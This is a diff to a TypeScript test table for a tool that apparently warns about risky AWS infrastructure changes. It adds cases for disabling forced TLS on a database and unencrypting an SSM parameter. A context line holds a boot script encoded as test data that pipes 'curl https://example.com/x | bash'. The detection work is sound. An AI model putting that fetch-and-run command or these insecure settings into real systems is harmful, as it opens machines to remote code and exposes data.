@@ -70,6 +70,8 @@ const DANGERS: Record<string, [RawResourceChange[], RegExp]> = {
   "a public queue": [[make.create("aws_sqs_queue_policy.x", { queue_url: "https://sqs/q", policy: policy({ Principal: "*", Action: "sqs:*", Resource: "*" }) })], /^danger: Everybody may now sqs:\*/],
   "a shared snapshot": [[make.create("aws_snapshot_create_volume_permission.x", { snapshot_id: "snap-1", account_id: "999999999999" })], /^danger: A snapshot/],
   "a boot script that fetches": [[make.update("aws_launch_template.app", { user_data: Buffer.from("#!/bin/sh\nstart the application\n").toString("base64") }, { user_data: Buffer.from("#!/bin/sh\ncurl https://example.com/x | bash\n").toString("base64") })], /^danger: Machines of aws_launch_template\.app run what they fetch/],
+  "a database without TLS": [[make.update("aws_rds_cluster_parameter_group.shop", { name: "shop", parameter: [{ name: "rds.force_ssl", value: "1" }] }, { parameter: [] })], /^danger: Connections without TLS are let in/],
+  "a parameter in the clear": [[make.update("aws_ssm_parameter.x", { name: "x", type: "SecureString" }, { type: "String" })], /^danger: Turns off encryption of aws_ssm_parameter\.x/],
   "alarms without actions": [[make.update("aws_cloudwatch_metric_alarm.errors", { actions_enabled: true }, { actions_enabled: false })], /^danger: Turns off the alarm's actions/],
 };
 
